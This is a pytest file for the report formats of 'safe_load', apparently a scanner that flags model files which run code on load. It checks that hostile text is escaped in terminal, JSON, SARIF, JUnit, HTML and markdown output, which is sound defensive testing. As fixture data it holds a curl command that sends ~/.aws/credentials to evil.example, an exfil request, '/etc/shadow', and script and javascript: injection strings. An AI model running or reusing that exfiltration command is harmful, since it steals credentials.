"""Each format says what the report says, and no text in a report gets out of its place."""

from __future__ import annotations

import re
import sys
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from safe_load import formats, report_schema
from safe_load.formats.interface import Format, View
from safe_load.formats.json import dump
from safe_load.formats.markdown import cell
from safe_load.report import Finding, Report, decode, encode

sys.path.insert(0, str(Path(__file__).parents[1]))
import reports

ALL = [
    reports.clean(),
    reports.exported(),
    reports.malicious(),
    reports.not_loadable(),
    reports.hostile(),
]
# What no terminal may be sent: C0 but the line feed, DEL, C1, and the bidi and invisible controls.
STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")


def render(name: str, *given: Report, view: View | None = None) -> str:
    return formats.get(name, view).render(given).decode()


@pytest.mark.parametrize("name", formats.FORMATS)
def test_every_format_is_found_under_its_own_name(name: str) -> None:
    found = formats.get(name)
    assert isinstance(found, Format)
    assert found.name == name


@pytest.mark.parametrize("name", formats.FORMATS)
@pytest.mark.parametrize("count", [0, 1, 5])
def test_any_number_of_reports_renders_to_text_that_ends_in_a_line_feed(
    name: str, count: int
) -> None:
    assert render(name, *ALL[:count]).endswith("\n")


@pytest.mark.parametrize("name", formats.FORMATS)
def test_no_character_of_a_hostile_report_steers_the_terminal(name: str) -> None:
    assert STEERING.search(render(name, reports.hostile())) is None


@pytest.mark.parametrize("name", formats.FORMATS)
def test_a_file_name_that_is_not_utf8_renders_everywhere(name: str) -> None:
    found = Finding("SL602", "low", "\udc80\udcff", "", "\udcff")
    report = msgspec.structs.replace(reports.clean(), findings=[found], notes=["\udc80"])
    assert "\\udc80\\udcff" in render(name, report).replace("\\\\", "\\")


@pytest.mark.parametrize("name", [name for name in formats.FORMATS if name != "json"])
def test_a_reader_learns_the_verdict_and_what_was_found(name: str) -> None:
    page = render(name, reports.malicious())
    for said in ("SL101", "A program was executed", "malicious" if name != "junit" else "rejected"):
        assert said in page


@pytest.mark.parametrize("name", ["human", "html", "markdown", "junit"])
def test_a_reader_learns_which_program_which_host_and_which_bytes(name: str) -> None:
    page = " ".join(render(name, reports.malicious()).replace("&#x27;", "'").split())
    assert "curl http://evil.example/$(cat ~/.aws/credentials)" in page
    assert "192.0.2.7" in page
    assert "GET /exfil?k=AKIA HTTP/1.1\\r\\nHost: evil.example" in page
    assert "/etc/shadow" in page


# --- human -----------------------------------------------------------------------------------


def test_the_first_line_is_the_verdict_with_the_tier() -> None:
    page = render("human", reports.clean("model-dir"))
    assert page.splitlines()[0] == "✓ clean  model-dir@4e1c1d2f9f   sandbox: native, tier A, 2.1 s"


def test_findings_come_worst_first() -> None:
    page = render("human", reports.malicious())
    order = re.findall(r"^  (critical|high|medium|low) ", page, re.MULTILINE)
    assert order == ["critical", "critical", "high", "medium", "low"]


@pytest.mark.parametrize("width", [40, 80, 120])
def test_no_line_is_wider_than_the_terminal(width: int) -> None:
    page = render("human", *ALL, view=View(width=width))
    assert max(len(line) for line in page.splitlines()) <= width


def test_colour_is_only_sent_to_a_terminal() -> None:
    assert "\x1b[" in render("human", reports.malicious(), view=View(color=True))
    assert "\x1b" not in render("human", reports.malicious(), view=View(color=False))


def test_coloured_output_holds_no_escape_but_its_own_colours() -> None:
    page = render("human", reports.hostile(), view=View(color=True))
    assert STEERING.search(re.sub(r"\x1b\[[0-9;]*m", "", page)) is None


def test_rich_markup_in_a_report_is_plain_text() -> None:
    assert "[bold red]x[/]" in render("human", reports.hostile(), view=View(width=400))


def test_an_exported_model_comes_with_the_line_that_uses_it() -> None:
    assert 'AutoModel.from_pretrained("cleared")' in render("human", reports.exported())


def test_brief_output_is_a_line_for_each_source_and_one_for_all() -> None:
    page = render("human", reports.clean(), reports.clean("b"), view=View(brief=True))
    assert page.splitlines()[1:] == [
        "✓ clean  b@4e1c1d2f9f   sandbox: native, tier A, 2.1 s",
        "2 sources: 2 clean",
    ]


def test_a_load_that_could_not_be_judged_is_never_shown_as_clean() -> None:
    broken = msgspec.structs.replace(reports.clean(), outcome="sandbox_error")
    assert render("human", broken).startswith("✗ sandbox error")


def test_a_thousand_findings_do_not_scroll_the_verdict_away() -> None:
    many = [Finding("SL401", "low", f"number {n}", "x" * 9000) for n in range(1000)]
    page = render("human", msgspec.structs.replace(reports.clean(), findings=many))
    assert len(page.splitlines()) < 600
    assert "and 950 more" in page


# --- json ------------------------------------------------------------------------------------


def test_json_is_the_report_for_one_source_and_an_array_for_several() -> None:
    assert decode(formats.get("json").render([reports.malicious()])) == reports.malicious()
    both = msgspec.json.decode(formats.get("json").render([reports.clean(), reports.malicious()]))
    assert [report["verdict"] for report in both] == ["clean", "malicious"]


def test_json_keeps_hostile_text_exactly() -> None:
    assert decode(formats.get("json").render([reports.hostile()])) == reports.hostile()


@settings(deadline=None)
@given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
def test_escaping_for_the_terminal_never_changes_what_json_means(value: object) -> None:
    assert msgspec.json.decode(dump(value)) == value
    assert STEERING.search(dump(value).decode()) is None


@pytest.mark.parametrize("report", ALL, ids=lambda report: report.outcome)
def test_every_report_is_valid_by_the_shipped_schema(report: Report) -> None:
    from jsonschema import Draft202012Validator

    schema = report_schema.schema()
    Draft202012Validator.check_schema(schema)
    Draft202012Validator(schema).validate(msgspec.json.decode(encode(report)))


def test_the_schema_refuses_what_is_no_report() -> None:
    from jsonschema import Draft202012Validator

    plain = msgspec.json.decode(encode(reports.clean()))
    validator = Draft202012Validator(report_schema.schema())
    for wrong in (
        {**plain, "verdict": "fine"},
        {**plain, "schema": "safe-load/report/2"},
        {key: value for key, value in plain.items() if key != "sandbox"},
    ):
        assert not validator.is_valid(wrong)


def test_the_committed_schema_is_the_one_that_the_types_make() -> None:
    import safe_load

    committed = Path(safe_load.__path__[0]) / "report.schema.json"
    assert committed.read_bytes() == report_schema.text()


def test_every_field_is_described_in_the_schema_and_in_the_docs() -> None:
    docs = (Path(__file__).parents[3] / "docs" / "report.md").read_text("utf-8")
    for name, definition in report_schema.schema()["$defs"].items():
        for field, described in definition["properties"].items():
            assert described.get("description"), f"{name}.{field}"
            assert f"`{field}`" in docs, f"{name}.{field}"


# --- sarif -----------------------------------------------------------------------------------


def test_sarif_names_the_rule_the_level_and_the_file() -> None:
    (run,) = msgspec.json.decode(formats.get("sarif").render([reports.malicious()]))["runs"]
    rules = run["tool"]["driver"]["rules"]
    assert [rule["id"] for rule in rules] == ["SL101", "SL201", "SL301", "SL401", "SL501"]
    assert rules[0]["help"]["text"].endswith("docs/findings.md#sl101")
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]
        place = result["locations"][0]["physicalLocation"]["artifactLocation"]
        assert place == {"uri": "pytorch_model.bin", "uriBaseId": "SOURCE"}
    assert [r["level"] for r in run["results"]] == ["warning", "note", "error", "error", "error"]


def test_sarif_fingerprints_are_distinct_and_the_same_on_the_next_run() -> None:
    twice = msgspec.structs.replace(
        reports.malicious(), findings=[*reports.malicious().findings, *reports.malicious().findings]
    )
    first, second = (formats.get("sarif").render([twice]) for _ in range(2))
    prints = [
        result["partialFingerprints"]["safeLoadFinding/v1"]
        for result in msgspec.json.decode(first)["runs"][0]["results"]
    ]
    assert len(set(prints)) == len(prints)
    assert first == second


@pytest.mark.parametrize(
    "path",
    ["a b.bin", "../../x", "//evil.example/x", "javascript:alert(1)", "%2e", "ключ", "a?b#c"],
)
def test_a_sarif_location_is_a_relative_uri_whatever_the_file_is_called(path: str) -> None:
    from urllib.parse import unquote, urlsplit

    report = msgspec.structs.replace(
        reports.malicious(),
        files=[msgspec.structs.replace(reports.malicious().files[0], path=path)],
        findings=[Finding("SL101", "high", "t", "d", f"{path}: here")],
    )
    (run,) = msgspec.json.decode(formats.get("sarif").render([report]))["runs"]
    uri = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    parts = urlsplit(uri)
    assert (parts.scheme, parts.netloc, parts.query, parts.fragment) == ("", "", "", "")
    assert unquote(uri) == path.lstrip("/")


def test_a_sarif_message_holds_no_link() -> None:
    finding = Finding(
        "SL501", "high", "see [this](http://evil.example)", "\\[x](http://evil.example)"
    )
    report = msgspec.structs.replace(reports.malicious(), findings=[finding])
    (run,) = msgspec.json.decode(formats.get("sarif").render([report]))["runs"]
    # Every bracket is behind an odd number of backslashes, so none opens a link.
    for run_of_slashes in re.findall(r"(\\*)[\[\]]", run["results"][0]["message"]["text"]):
        assert len(run_of_slashes) % 2 == 1


def test_sarif_says_when_a_source_could_not_be_judged() -> None:
    (run,) = msgspec.json.decode(formats.get("sarif").render([reports.not_loadable()]))["runs"]
    (invocation,) = run["invocations"]
    assert invocation["executionSuccessful"] is False
    assert "4096 bytes" in invocation["toolExecutionNotifications"][0]["message"]["text"]


# --- junit -----------------------------------------------------------------------------------


def test_junit_counts_the_rejected_as_failures_and_the_unjudged_as_errors() -> None:
    root = ET.fromstring(
        render("junit", reports.clean(), reports.malicious(), reports.not_loadable())
    )
    (suite,) = root
    assert {key: suite.get(key) for key in ("tests", "failures", "errors")} == {
        "tests": "3",
        "failures": "1",
        "errors": "1",
    }
    assert [[child.tag for child in case] for case in suite] == [[], ["failure"], ["error"]]


def test_junit_stays_well_formed_with_hostile_text() -> None:
    ((case,),) = ET.fromstring(render("junit", reports.hostile()))
    assert "<script>alert(1)</script>" in str(case.get("name"))


# --- html ------------------------------------------------------------------------------------


class Page(HTMLParser):
    """The elements of a page, as a browser would find them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


@pytest.mark.parametrize("report", ALL, ids=lambda report: report.outcome)
def test_an_html_page_has_no_script_no_link_and_fetches_nothing(report: Report) -> None:
    elements = Page(render("html", report)).elements
    assert {tag for tag, _ in elements}.isdisjoint(
        {
            "script",
            "img",
            "a",
            "link",
            "iframe",
            "object",
            "embed",
            "base",
            "form",
            "video",
            "audio",
        }
    )
    for _, attributes in elements:
        assert not any(
            name.startswith("on") or name in ("src", "href", "style") for name in attributes
        )


def test_the_html_policy_allows_its_own_style_sheet_and_nothing_else() -> None:
    import base64
    import hashlib

    page = render("html", reports.clean())
    (policy,) = (
        str(a["content"])
        for tag, a in Page(page).elements
        if a.get("http-equiv") == "Content-Security-Policy"
    )
    sheet = page[page.index("<style>") + 7 : page.index("</style>")]
    digest = base64.b64encode(hashlib.sha256(sheet.encode()).digest()).decode()
    assert policy.startswith(f"default-src 'none'; style-src 'sha256-{digest}'")


def test_hostile_text_opens_no_html_element() -> None:
    def count(report: Report) -> int:
        return render("html", report).count("<script") + render("html", report).count("<img")

    assert count(reports.hostile()) == 0


# --- markdown --------------------------------------------------------------------------------


@settings(deadline=None)
@given(st.text(alphabet=st.sampled_from("`` \\|[]()<>@:/!*_#-.abc1\n\t&\u202e")) | st.text())
def test_hostile_markdown_stays_in_one_code_span(text: str) -> None:
    shown = cell(text)
    assert "\n" not in shown
    if not shown.startswith("`"):
        assert re.fullmatch(r"[A-Za-z][A-Za-z0-9 ,'-]*", shown)
        return
    fence = re.match(r"`+", shown)
    assert fence is not None
    inner = shown[len(fence[0]) : -len(fence[0])]
    assert shown.endswith(fence[0])
    # CommonMark 6.1: a span ends at the first run of exactly as many backticks as opened it.
    assert all(run != fence[0] for run in re.findall(r"`+", inner))
    assert not inner.startswith("`")
    assert not inner.endswith("`")
